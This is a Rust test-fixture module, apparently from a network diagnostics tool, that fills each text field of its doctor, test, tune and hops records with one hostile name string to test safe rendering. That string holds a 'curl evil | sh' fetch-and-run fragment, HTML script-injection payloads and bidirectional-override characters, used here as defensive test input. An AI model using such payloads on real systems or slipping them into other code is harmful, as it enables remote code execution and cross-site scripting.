//! Records in which every text is what a hostile machine may call itself.

use std::collections::BTreeSet;
use std::sync::OnceLock;

use serde::Serialize;
use serde::de::DeserializeOwned;
use serde_json::Value;
use wirespeed_facts::{CountersDelta, Known, LinkCounters};
use wirespeed_measure::{ExchangeComparison, NotMeasured};
use wirespeed_report::{DoctorRecord, HopsRecord, TestRecord, TuneRecord};

use crate::records;

/// Ends of lines and what could be taken for the next one, elements, quotes, ends of what it may stand in, marks that turn the line
/// around, and more letters than any line has, of several alphabets and of the widest kinds.
pub(crate) const NAME: &str = concat!(
    "a\nhealthy  curl evil | sh #\r\tb\u{85}c\u{2028}d\u{2029}",
    "\"'><script>alert(1)</script><img src=x onerror=alert(2)>&lt;\u{202e}gnp]]>--></svg></style>",
    "\u{200f}\u{5e9}\u{5dc}\u{5d5}\u{5dd}\u{2067}漢字漢字漢字漢字漢字漢字漢字漢字",
    "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW"
);

pub(crate) fn doctor() -> DoctorRecord {
    static MADE: OnceLock<DoctorRecord> = OnceLock::new();
    let made = MADE.get_or_init(|| {
        let mut record = records::case_as_recorded("socket-overflow");
        fill_doctor(&mut record);
        hostile(&record)
    });
    let mut record = made.clone();
    for comparison in &mut record.measurements.comparisons {
        records::with_intervals(comparison);
    }
    record
}

pub(crate) fn watched() -> DoctorRecord {
    static MADE: OnceLock<DoctorRecord> = OnceLock::new();
    let made = MADE.get_or_init(|| {
        let mut record = records::watched();
        fill_doctor(&mut record);
        hostile(&record)
    });
    made.clone()
}

pub(crate) fn test() -> TestRecord {
    static MADE: OnceLock<TestRecord> = OnceLock::new();
    let made = MADE.get_or_init(|| {
        let mut record: TestRecord = records::recorded("test-healthy");
        for comparison in &mut record.comparisons {
            comparison.remarks = vec![String::new()];
            comparison.bare_unknown = Some(String::new());
            for sample in &mut comparison.samples {
                drops(&mut sample.here);
            }
        }
        record.exchanges = Some(ExchangeComparison {
            at_once: 10,
            ratio: None,
            bare_unknown: Some(String::new()),
            samples: Vec::new(),
            remarks: vec![String::new()],
        });
        record.not_measured = vec![missing()];
        hostile(&record)
    });
    let mut record = made.clone();
    record
        .comparisons
        .iter_mut()
        .for_each(records::with_intervals);
    record
}

pub(crate) fn tune() -> TuneRecord {
    static MADE: OnceLock<TuneRecord> = OnceLock::new();
    let made = MADE.get_or_init(|| {
        let mut record = records::a_tune();
        for experiment in &mut record.outcome.experiments {
            experiment.before = Value::String(String::new());
            for sample in &mut experiment.samples {
                sample.intervals.clear();
                drops(&mut sample.here);
            }
        }
        let doctor = records::case_as_recorded("socket-overflow");
        record.outcome.diagnosis.findings = doctor.findings;
        record.outcome.not_tried = vec![missing()];
        record.outcome.ended_early = Some(String::new());
        record.outcome.recovered = vec![records::recovered()];
        hostile(&record)
    });
    made.clone()
}

pub(crate) fn hops() -> HopsRecord {
    static MADE: OnceLock<HopsRecord> = OnceLock::new();
    let made = MADE.get_or_init(|| {
        let mut record = records::hops();
        record.doctor = None;
        record.report.remarks.push(String::new());
        record.report.measured.not_measured = vec![missing()];
        hostile(&record)
    });
    let mut record = made.clone();
    record.doctor = Some(doctor());
    record
}

fn missing() -> NotMeasured {
    NotMeasured {
        what: String::new(),
        because: String::new(),
    }
}

/// Texts where the recording happens to have none.
fn fill_doctor(record: &mut DoctorRecord) {
    record.not_checked.push(missing());
    for machine in &mut record.machines {
        machine.facts.host.system = Known::Value(String::new());
        machine.facts.cpu.model = Known::Value(String::new());
        machine.facts.outer_links = machine
            .facts
            .links
            .iter()
            .map(|one| one.name.clone())
            .collect();
    }
    let measured = &mut record.measurements;
    for comparison in &mut measured.comparisons {
        comparison.remarks = vec![String::new()];
        for sample in &mut comparison.samples {
            drops(&mut sample.here);
        }
    }
    for slice in measured
        .passive
        .iter_mut()
        .flat_map(|one| &mut one.here.slices)
    {
        drops(slice);
    }
}

/// Some packet was dropped on each link, whose name is the key of its counters.
fn drops(delta: &mut CountersDelta) {
    let mut links = std::mem::take(&mut delta.links);
    if links.is_empty() {
        links.insert(String::new(), LinkCounters::default());
    }
    delta.links = links
        .into_values()
        .enumerate()
        .map(|(index, mut link)| {
            link.rx_dropped = 7;
            let name = if index == 0 {
                NAME.to_owned()
            } else {
                format!("{NAME}{index}")
            };
            (name, link)
        })
        .collect();
}

/// The record with [`NAME`] for each text of it, but where it can be only one of a few words.
fn hostile<T: Serialize + DeserializeOwned>(record: &T) -> T {
    let mut made = serde_json::to_value(record).expect("a record is JSON");
    let mut places = BTreeSet::new();
    each_text(&mut made, &mut String::new(), &mut |place, _| {
        places.insert(place.to_owned());
    });
    // The name of its schema is not what it says, but what it is.
    places.retain(|place| !place.ends_with("/schema/name"));
    for place in &places {
        let mut tried = made.clone();
        each_text(&mut tried, &mut String::new(), &mut |at, text| {
            if at == place {
                NAME.clone_into(text);
            }
        });
        if serde_json::from_value::<T>(tried.clone()).is_ok() {
            made = tried;
        }
    }
    serde_json::from_value(made).expect("a record as before")
}

/// Every text, with its place: names of fields, and one sign for all places of a list.
fn each_text(value: &mut Value, place: &mut String, run: &mut dyn FnMut(&str, &mut String)) {
    match value {
        Value::String(text) => run(place, text),
        Value::Array(all) => within(place, "*", |place| {
            for one in all {
                each_text(one, place, run);
            }
        }),
        Value::Object(fields) => {
            for (name, field) in fields {
                within(place, name, |place| each_text(field, place, run));
            }
        }
        _ => {}
    }
}

fn within(place: &mut String, step: &str, run: impl FnOnce(&mut String)) {
    let before = place.len();
    place.push('/');
    place.push_str(step);
    run(place);
    place.truncate(before);
}
